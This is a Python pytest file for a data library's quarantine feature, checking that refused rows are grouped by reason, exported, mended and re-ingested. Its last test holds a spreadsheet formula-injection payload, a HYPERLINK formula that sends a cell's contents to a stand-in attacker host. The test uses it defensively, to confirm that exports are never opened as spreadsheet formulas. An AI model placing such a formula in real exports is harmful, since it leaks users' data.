"""What was refused: listed by reason, exported, mended, dropped again."""

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from fsl.data.batches import BatchRecord
from fsl.data.errors import NoExportName
from fsl.data.history import read_history
from fsl.data.mending import load_open
from fsl.data.quarantine import Reason, RefusedRow, group_by_reason, load_refused, save_export
from fsl.store.objects import ObjectStore

Ingest = Callable[..., BatchRecord]
BAD = [
    {"text": "pay me back", "label": "refnd", "date": "2026-01-02", "agent": "Łukasz"},
    {"text": "你好", "label": 5},
    {"text": "broken \ud83d", "label": "refund"},
]


@pytest.fixture
def history(ingest: Ingest, sound_rows: Callable[..., Any], store: ObjectStore) -> tuple[BatchRecord, ...]:
    good = "".join(json.dumps(row) + "\n" for row in [*sound_rows(), *sound_rows(n=1)]).encode()
    ingest("one.jsonl", good + "".join(json.dumps(row) + "\n" for row in BAD).encode() + b"caf\xe9\n")
    ingest("two.jsonl", [*sound_rows(first=50), {"text": "", "label": "refund"}, {"text": "me too", "label": "refnd"}])
    return read_history(store)


def test_refused_rows_are_counted_by_reason_over_all_batches(
    store: ObjectStore, history: tuple[BatchRecord, ...]
) -> None:
    groups = group_by_reason(load_refused(store, history), n_examples=1)

    assert [(group.code, group.n, len(group.examples)) for group in groups] == [
        ("duplicate", 2, 1),
        ("label_unknown", 2, 1),
        ("control_characters", 1, 1),
        ("target_invalid", 1, 1),
        ("text_empty", 1, 1),
        ("unreadable", 1, 1),
    ]
    assert groups[1].examples[0].source == "one.jsonl:13"


def test_an_export_holds_the_rows_as_they_were_with_what_is_to_be_mended(
    store: ObjectStore, history: tuple[BatchRecord, ...], tmp_path: Path
) -> None:
    n_rows = save_export(load_refused(store, history), tmp_path / "mend.jsonl")

    rows = [json.loads(line) for line in (tmp_path / "mend.jsonl").read_bytes().splitlines()]
    assert n_rows == len(rows) == 6
    ids = {row.pop("_row") for row in rows}
    by_why = {row.pop("_why")[0]: row for row in rows}
    assert by_why["one.jsonl:14: the label is 5, but a label is a text"] == BAD[1]
    assert BAD[0] in by_why.values()
    assert BAD[2] in by_why.values()
    assert {"_line": "caf\\xe9"} in by_why.values()
    assert len(ids) == 6


def test_a_mended_export_comes_in(
    store: ObjectStore, history: tuple[BatchRecord, ...], ingest: Ingest, tmp_path: Path
) -> None:
    save_export(load_refused(store, history), tmp_path / "mend.jsonl")
    text = (tmp_path / "mend.jsonl").read_text(encoding="utf-8")
    mended = [line.replace('"refnd"', '"refund"') for line in text.splitlines() if '"refnd"' in line]

    record = ingest("mended.jsonl", "\n".join(mended).encode(), time_column="date")

    assert (record.rows.n, record.quarantine.n) == (2, 0)
    assert record.labels == {"refund": 2}
    found = load_open(store, read_history(store))
    assert found.n_cleared == 2
    assert "label_unknown" not in {group.code for group in group_by_reason(found.rows)}


def test_a_row_mended_in_its_text_is_known_by_its_id_and_one_refused_again_is_listed_once(
    store: ObjectStore, history: tuple[BatchRecord, ...], ingest: Ingest, tmp_path: Path
) -> None:
    save_export(load_refused(store, history), tmp_path / "mend.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "mend.jsonl").read_bytes().splitlines()]
    mended = [{**row, "text": "what was empty"} for row in rows if row.get("text") == ""]
    again = [row for row in rows if row.get("text") == "你好"]
    n_before = len(load_open(store, history).rows)

    ingest("mended.jsonl", [*mended, *again])

    found = load_open(store, read_history(store))
    assert len(found.rows) == n_before - 1
    assert [row.source for row in found.rows if row.text == "你好"] == ["mended.jsonl:2"]


def test_a_whole_file_dropped_again_with_its_rows_mended_clears_them(
    store: ObjectStore, ingest: Ingest, sound_rows: Callable[..., Any]
) -> None:
    ingest("one.jsonl", [*sound_rows(), {"text": "pay me back", "label": "refnd"}])

    ingest("one.jsonl", [*sound_rows(), {"text": "pay me back", "label": "refund"}])

    found = load_open(store, read_history(store))
    assert {row.reasons[0].code for row in found.rows} == {"duplicate"}
    assert found.n_cleared == 1


@pytest.mark.parametrize("named", ["", "x" * 32, 5, None, ["a"]], ids=repr)
def test_a_column_that_names_no_row_clears_nothing(
    store: ObjectStore, history: tuple[BatchRecord, ...], ingest: Ingest, named: Any
) -> None:
    n_before = len(load_open(store, history).rows)

    record = ingest("more.jsonl", [{"text": "some other words", "label": "refund", "_row": named}])

    assert record.rows.n == 1
    assert len(load_open(store, read_history(store)).rows) == n_before


def test_a_mended_row_of_csv_or_parquet_clears_as_well(
    store: ObjectStore, history: tuple[BatchRecord, ...], ingest: Ingest
) -> None:
    empty, again = (row for row in load_refused(store, history) if row.text in ("", "你好"))
    sink = io.BytesIO()
    pq.write_table(pa.table({"text": ["words"], "label": ["refund"], "_row": [empty.row_id]}), sink)
    n_before = len(load_open(store, history).rows)

    ingest("mended.parquet", sink.getvalue())
    ingest("mended.csv", f"text,label,_row\n你好,greeting,{again.row_id}\n".encode())

    assert len(load_open(store, read_history(store)).rows) == n_before - 2


FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"click")'


def test_a_formula_is_exported_as_it_came_where_no_spreadsheet_takes_it_for_one(tmp_path: Path) -> None:
    reasons = (Reason("unreadable", f"@SUM({FORMULA})"),)
    rows = [
        RefusedRow(1, json.dumps({"text": FORMULA, "+1": "-1"}), FORMULA, 5, reasons, f"{FORMULA}.jsonl:1", "0" * 32),
        RefusedRow(2, FORMULA, None, None, reasons, "a.csv:2", "1" * 32),
    ]

    save_export(rows, tmp_path / "mend.jsonl")

    lines = (tmp_path / "mend.jsonl").read_text().splitlines()
    assert [line[:1] for line in lines] == ["{", "{"]
    assert json.loads(lines[0])["text"] == FORMULA
    with pytest.raises(
        NoExportName, match=r"mend\.csv would hold JSON Lines.*no spreadsheet takes a text for a formula"
    ):
        save_export(rows, tmp_path / "mend.csv")
    assert not (tmp_path / "mend.csv").exists()
